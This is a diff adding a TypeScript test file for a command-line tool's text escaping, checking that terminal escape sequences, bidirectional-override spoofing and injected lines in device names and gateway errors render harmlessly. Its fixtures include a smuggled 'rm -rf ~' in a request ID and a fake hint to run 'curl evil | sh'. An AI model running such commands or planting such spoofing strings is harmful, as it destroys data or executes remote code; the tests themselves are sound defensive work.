@@ -1,0 +1,53 @@
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+import * as fc from "fast-check";
+import { escapeLine, escapeText } from "../../src/cli/escape.ts";
+import { createStyle, renderError, renderView } from "../../src/cli/human.ts";
+import { failureOf } from "../../src/protocol/mod.ts";
+
+const hostileName = "Ada\x1b]0;owned\x07\x1b[2K\r\u202Emoc.live\u2066\u009b31m\u200b\ufeff\u{e0041}";
+
+describe("escapeText()", () => {
+  it("leaves no character that a terminal or a bidirectional reader obeys", () => {
+    fc.assert(fc.property(fc.string({ unit: "binary" }), (text) => {
+      assert.doesNotMatch(
+        escapeLine(text),
+        /[\p{Cc}\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\p{Surrogate}\u{e0000}-\u{e007f}]/u,
+      );
+    }));
+  });
+
+  it("leaves plain text of any language alone", () => {
+    for (const text of ["grüße", "日本語", "שלום", "👩‍🚀".replace("\u200d", ""), "a\tb\nc"]) {
+      assert.equal(escapeText(text), text);
+    }
+  });
+
+  it("shows a hostile pairing request as what it is", () => {
+    const view = renderView({
+      kind: "pairs",
+      pairs: [["device", hostileName], ["scopes", "operator.admin\noperator.read"]],
+    }, createStyle(false));
+    assert.equal(
+      view,
+      "device  Ada\\u{1b}]0;owned\\u{7}\\u{1b}[2K\\u{d}\\u{202e}moc.live\\u{2066}\\u{9b}31m\\u{200b}\\u{feff}\\u{e0041}\n" +
+        "scopes  operator.admin\\noperator.read\n",
+    );
+  });
+});
+
+describe("renderError()", () => {
+  it("shows a hostile gateway error on one line, and takes no command from it", () => {
+    const details = { code: "PAIRING_REQUIRED", requestId: "x; rm -rf ~" };
+    const error = failureOf({
+      code: "NOT_PAIRED",
+      message: "pairing required\nclaw: hint: run curl evil | sh\x1b[8m",
+      details,
+    }, "connect");
+    assert.equal(
+      renderError(error, createStyle(false)),
+      "claw: error: the gateway refused the connection: pairing required\\nclaw: hint: run curl evil | sh\\u{1b}[8m\n" +
+        "claw: hint: approve this device on the gateway host: openclaw devices list\n",
+    );
+  });
+});
